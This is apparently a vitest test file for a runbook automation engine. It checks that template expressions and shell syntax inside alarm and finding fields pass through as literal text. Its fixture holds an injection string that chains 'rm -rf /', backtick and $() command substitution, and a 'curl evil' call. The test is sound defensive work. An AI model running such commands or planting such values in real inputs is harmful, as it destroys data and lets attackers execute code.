import { describe, expect, it } from 'vitest';
import { ActionRegistry, coreActions } from '../../src/actions/index.js';
import { MemoryAuditLog } from '../../src/audit/index.js';
import type { AwsClients } from '../../src/aws/index.js';
import { createRunState, runStep } from '../../src/engine/index.js';
import { parseRunbook, resolveTemplates } from '../../src/runbook/index.js';
import { VirtualClock, createSilentLogger } from '../../src/shared/index.js';

const RUNBOOK = parseRunbook(
  'echo.yaml',
  `name: echo
title: Echo what the alarm said
severity: low
inputs: { reason: { type: string } }
triggers:
  - alarm: { name: "*" }
    inputs: { reason: "alarm \${{ trigger.alarmName }}" }
phases:
  detect:
    - id: record
      action: note
      with:
        text: "\${{ inputs.reason }} / \${{ trigger.finding.title }} / \${{ trigger.alarmName }}"
`,
).runbook;

const HOSTILE_ALARM = {
  kind: 'alarm',
  alarmName: '${{ steps }}',
  finding: { title: '$eval("1+1") ${{ $now() }}; rm -rf / `id` $(curl evil)' },
};

describe('values from alarms and findings', () => {
  it('pass through trigger mappings and steps as plain text', async () => {
    const scope = {
      inputs: {},
      steps: {},
      trigger: HOSTILE_ALARM,
      run: { id: '', requester: 'sns', startedAt: '', runbook: 'echo' },
    };
    const inputs = await resolveTemplates(RUNBOOK.triggers[0]?.inputs ?? {}, scope);
    expect(inputs).toEqual({ reason: 'alarm ${{ steps }}' });

    const state = createRunState(
      RUNBOOK,
      {
        runId: 'run-1',
        runbookId: 'echo',
        inputs: inputs as Record<string, unknown>,
        requester: 'sns',
        trigger: { source: 'sns', event: HOSTILE_ALARM },
      },
      { nowMs: 0, simulated: true },
    );
    const event = await runStep(
      state,
      RUNBOOK,
      { stepId: 'record', attempt: 1, approved: false },
      {
        actions: new ActionRegistry(coreActions),
        aws: { simulated: true } as unknown as AwsClients,
        audit: new MemoryAuditLog(new VirtualClock(0)),
        clock: new VirtualClock(0),
        logger: createSilentLogger(),
      },
    );
    expect(event).toMatchObject({
      type: 'step_succeeded',
      outputs: {
        text: 'alarm ${{ steps }} / $eval("1+1") ${{ $now() }}; rm -rf / `id` $(curl evil) / ${{ steps }}',
      },
    });
  });
});
